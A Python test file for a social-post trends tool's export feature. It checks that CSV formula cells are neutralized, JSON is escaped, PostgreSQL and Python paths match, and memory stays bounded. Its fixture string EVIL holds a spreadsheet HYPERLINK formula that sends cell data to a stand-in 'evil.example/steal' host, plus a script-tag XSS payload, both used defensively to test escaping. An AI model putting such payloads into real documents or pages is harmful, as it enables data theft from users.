"""Exports: formula cells neutralized, JSON escaped, Parquet typed, memory bounded at 200,000 rows."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta

import pyarrow.parquet as pq
import pytest

from bench.generate import generate
from classify.rules import RulesClassifier
from classify.store import classify_posts
from core.db import _engine_for as get_engine_for
from core.db import get_engine
from core.taxonomy import load_taxonomy
from ingest.store import upsert_posts
from tests.conftest import REPO, _truncate
from tests.factories import make_post
from trends.exports import ExportFilters, neutralize, stream_export

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click") <script>alert(1)</script>'


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = fine", "plain = fine"),
        ("", ""),
    ],
)
def test_neutralize(cell, out):
    assert neutralize(cell) == out


def _export(settings, fmt, **filters) -> bytes:
    chunks = stream_export(
        engine=get_engine(settings),
        taxonomy=load_taxonomy(),
        fmt=fmt,
        filters=ExportFilters(**filters),
        page_size=2,
    )
    return b"".join(chunks)


def test_formula_and_script_text_export_safely(settings, session):
    posts = [
        make_post(
            external_id="evil",
            text=EVIL,
            title="-title",
            created_at=datetime(2026, 10, 1, tzinfo=UTC),
        ),
        *[make_post(external_id=f"n{i}", text=f"Claude refused me {i}") for i in range(4)],
    ]
    res = upsert_posts(session=session, posts=posts, secret="k")
    session.commit()
    classify_posts(session=session, post_ids=res.inserted, classifier=RulesClassifier())
    session.commit()

    rows = list(csv.DictReader(io.StringIO(_export(settings, "csv").decode())))
    assert len(rows) == 5  # five pages of two: keyset paging loses nothing
    evil = next(r for r in rows if r["external_id"] == "evil")
    assert evil["text"] == "'" + EVIL and evil["title"] == "'-title"

    lines = _export(settings, "jsonl").decode().splitlines()
    assert len(lines) == 5
    raw = next(line for line in lines if '"evil"' in line)
    assert "<script>" not in raw and "\\u003cscript\\u003e" in raw
    assert json.loads(raw)["text"] == EVIL  # intact once parsed

    table = pq.read_table(io.BytesIO(_export(settings, "parquet")))
    assert table.num_rows == 5 and EVIL in table.column("text").to_pylist()
    assert table.column("themes").to_pylist().count(["refusal_complaint"]) == 4

    only = _export(
        settings, "jsonl", theme="refusal_complaint", until=datetime(2026, 11, 1, tzinfo=UTC)
    )
    assert len(only.splitlines()) == 4


_MEASURE = """
import sys
from cli.main import app
try:
    app(args=["export", "--format", sys.argv[1], "-o", sys.argv[2]], standalone_mode=False)
finally:
    status = open("/proc/self/status").read()
    hwm = next(line for line in status.splitlines() if line.startswith("VmHWM"))
    print("HWM_KB", int(hwm.split()[1]), file=sys.stderr)
"""


@pytest.mark.slow
def test_export_of_200k_rows_stays_under_300_mb(postgresql_url, tmp_path, monkeypatch):
    _truncate(postgresql_url)
    started = time.monotonic()
    generate(postgresql_url, n=200_000, days=60)
    env = {**os.environ, "UNDERTOW_DATABASE_URL": postgresql_url}
    for fmt in ("csv", "parquet"):
        out = tmp_path / f"export.{fmt}"
        proc = subprocess.run(
            [sys.executable, "-c", _MEASURE, fmt, str(out)],
            cwd=REPO,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert proc.returncode == 0, proc.stderr[-2000:]
        hwm_mb = int(proc.stderr.split("HWM_KB")[-1].split()[0]) / 1024
        print(f"{fmt}: peak RSS {hwm_mb:.0f} MB")
        assert hwm_mb < 300, f"{fmt} export peaked at {hwm_mb:.0f} MB"
        assert "exported 200000 posts" in proc.stderr
        if fmt == "parquet":
            assert pq.ParquetFile(out).metadata.num_rows == 200_000
            assert pq.ParquetFile(out).metadata.num_row_groups > 1
        else:
            with out.open() as fh:
                assert sum(1 for _ in csv.reader(fh)) == 200_001
    print(f"generated and exported twice in {time.monotonic() - started:.0f} s")
    _truncate(postgresql_url)


def _cli_env(settings) -> dict[str, str]:
    return {**os.environ, "UNDERTOW_DATABASE_URL": settings.sqlalchemy_url}


def test_cli_export_formats_filters_and_progress(settings, session, tmp_path):
    import pty

    posts = [
        make_post(external_id=f"c{i}", text=t, created_at=datetime(2026, 10, 20 + i, tzinfo=UTC))
        for i, t in enumerate(["Claude refused me", "ChatGPT lost my chats", EVIL])
    ]
    res = upsert_posts(session=session, posts=posts, secret="k")
    session.commit()
    classify_posts(session=session, post_ids=res.inserted, classifier=RulesClassifier())
    session.commit()
    base = [sys.executable, "-m", "cli.main", "export"]
    out = tmp_path / "x.csv"
    r = subprocess.run(
        [*base, "--format", "csv", "--since", "2026-10-21", "-o", str(out)],
        cwd=REPO, env=_cli_env(settings), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(out.open()))
    assert [row["external_id"] for row in rows] == ["c2", "c1"]
    assert rows[0]["text"].startswith("'=HYPERLINK")
    pq_out = tmp_path / "x.parquet"
    r = subprocess.run(
        [*base, "--format", "parquet", "--theme", "refusal_complaint", "-o", str(pq_out)],
        cwd=REPO, env=_cli_env(settings), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert pq.read_table(pq_out).column("external_id").to_pylist() == ["c0"]
    bad = subprocess.run(
        [*base, "--format", "xlsx"],
        cwd=REPO, env=_cli_env(settings), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert bad.returncode == 2 and "format" in bad.stderr and "Traceback" not in bad.stderr
    # On a terminal, a progress bar goes to stderr; the data still goes to the file only.
    master, slave = pty.openpty()
    proc = subprocess.run(
        [*base, "--format", "jsonl", "-o", str(tmp_path / "x.jsonl")],
        cwd=REPO, env=_cli_env(settings), stdout=subprocess.PIPE, stderr=slave, timeout=120,
    )  # fmt: skip
    os.close(slave)
    shown = os.read(master, 65536).decode(errors="replace")
    os.close(master)
    assert proc.returncode == 0
    assert "exporting" in shown and "exported 3 posts" in shown
    assert len((tmp_path / "x.jsonl").read_text().splitlines()) == 3


def _python_path(engine, fmt, filters, *, with_handle=False, page_size=3) -> bytes:
    """The export as the portable (SQLite) path writes it, whatever the database."""
    from trends import exports

    pages = exports.iter_pages(
        engine=engine, filters=filters, with_handle=with_handle, page_size=page_size
    )
    chunks = {
        "csv": exports._csv_chunks,
        "jsonl": exports._jsonl_chunks,
        "parquet": exports._parquet_chunks,
    }[fmt](pages, with_handle)
    return b"".join(chunks)


def _awkward_posts(n: int = 23):
    texts = [
        EVIL,
        '-1 "quoted", with commas\nand a newline\r\nand CRLF',
        "@everyone tab\there & <b>bold</b> ünïcödé 😀",
        "+plain",
        "\tstarts with a tab",
        "",
        "back\\slash \\u0041 and a \x01 control",
        "Claude refused me",
        "ChatGPT lost my whole chat history",
    ]
    posts = []
    for i in range(n):
        posts.append(
            make_post(
                external_id=f"=ext{i}" if i % 5 == 0 else f"e{i}",
                text=texts[i % len(texts)] + ("" if i < len(texts) else f" #{i}"),
                title=None if i % 3 else f"-title {i}",
                url=None if i % 4 == 0 else f"https://example.org/{i}?a=1&b=<2>",
                lang=None if i % 2 else "en",
                query="=cmd" if i % 7 == 0 else "Claude",
                platform=("reddit", "bluesky", "hackernews")[i % 3],
                # Some instants share a second, one has microseconds, one sits on a page edge.
                created_at=datetime(2026, 10, 1, 12, tzinfo=UTC)
                + timedelta(seconds=i // 2, microseconds=(i * 70_001) % 1_000_000 if i % 3 else 0),
            )
        )
    return posts


def test_postgresql_copy_path_matches_the_python_path(postgresql_url, monkeypatch):
    """On PostgreSQL the database formats the rows: byte for byte what the Python path writes."""
    from sqlmodel import Session

    from classify.review import correct_labels
    from core.models import Post
    from trends.exports import PG_PARALLEL_PAGES

    _truncate(postgresql_url)
    engine = get_engine_for(postgresql_url)
    tax = load_taxonomy()
    with Session(engine) as session:
        res = upsert_posts(session=session, posts=_awkward_posts(), secret="k")
        session.commit()
        classify_posts(session=session, post_ids=res.inserted[:-2], classifier=RulesClassifier())
        # A human label with products kept from the model (JSON null), one with its own, one
        # with no themes; one post deleted; the last two have no classification at all.
        for pid, themes, products in (
            (res.inserted[0], ["refusal_complaint"], None),
            (res.inserted[1], ["lost_work_claim"], ["gemini"]),
            (res.inserted[2], [], None),
        ):
            correct_labels(
                session=session, taxonomy=tax, post_id=pid, themes=themes, products=products,
                author="t",
            )  # fmt: skip
        gone = session.get(Post, res.inserted[3])
        gone.deleted_at = datetime(2026, 10, 2, tzinfo=UTC)
        session.add(gone)
        session.commit()

    assert PG_PARALLEL_PAGES >= 2
    for filters in (
        ExportFilters(),
        ExportFilters(theme="refusal_complaint"),
        ExportFilters(platform="reddit", since=datetime(2026, 10, 1, 12, 0, 3, tzinfo=UTC)),
        ExportFilters(until=datetime(2026, 9, 1, tzinfo=UTC)),  # nothing
    ):
        for fmt in ("csv", "jsonl"):
            for with_handle in (False, True):
                want = _python_path(engine, fmt, filters, with_handle=with_handle)
                for page_size in (2, 3, 50_000):
                    got = b"".join(
                        stream_export(
                            engine=engine, taxonomy=tax, fmt=fmt, filters=filters,
                            with_handle=with_handle, page_size=page_size,
                        )
                    )  # fmt: skip
                    assert got == want, (fmt, filters, with_handle, page_size)
        want_pq = pq.read_table(io.BytesIO(_python_path(engine, "parquet", filters)))
        for page_size in (2, 50_000):
            got_pq = pq.read_table(
                io.BytesIO(
                    b"".join(
                        stream_export(
                            engine=engine, taxonomy=tax, fmt="parquet", filters=filters,
                            page_size=page_size,
                        )
                    )
                )
            )  # fmt: skip
            assert got_pq.schema == want_pq.schema
            assert got_pq.equals(want_pq), (filters, page_size)

    rows = [
        json.loads(line) for line in _python_path(engine, "jsonl", ExportFilters()).splitlines()
    ]
    by_id = {r["id"]: r for r in rows}
    assert len(rows) == 22 and res.inserted[3] not in by_id
    kept = by_id[res.inserted[0]]  # the reviewer kept the model's products
    assert kept["human_label"] and kept["themes"] == ["refusal_complaint"]
    with Session(engine) as session:
        from core.models import Classification

        model = session.get(Classification, session.get(Post, res.inserted[0]).classification_id)
        assert kept["products"] == model.products
    assert by_id[res.inserted[1]]["products"] == ["gemini"]
    assert by_id[res.inserted[-1]]["model_version"] is None
    assert by_id[res.inserted[-1]]["themes"] == [] and by_id[res.inserted[-1]]["scores"] == {}
    _truncate(postgresql_url)


def test_postgresql_export_stopped_early_releases_its_connections(postgresql_url):
    from sqlmodel import Session

    _truncate(postgresql_url)
    engine = get_engine_for(postgresql_url)
    with Session(engine) as session:
        upsert_posts(session=session, posts=_awkward_posts(60), secret="k")
        session.commit()
    for fmt in ("csv", "parquet"):
        chunks = stream_export(
            engine=engine,
            taxonomy=load_taxonomy(),
            fmt=fmt,
            filters=ExportFilters(),
            page_size=5,
        )
        next(chunks)
        chunks.close()  # the client hung up
        deadline = time.monotonic() + 10
        while engine.pool.checkedout() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert engine.pool.checkedout() == 0, fmt
    _truncate(postgresql_url)
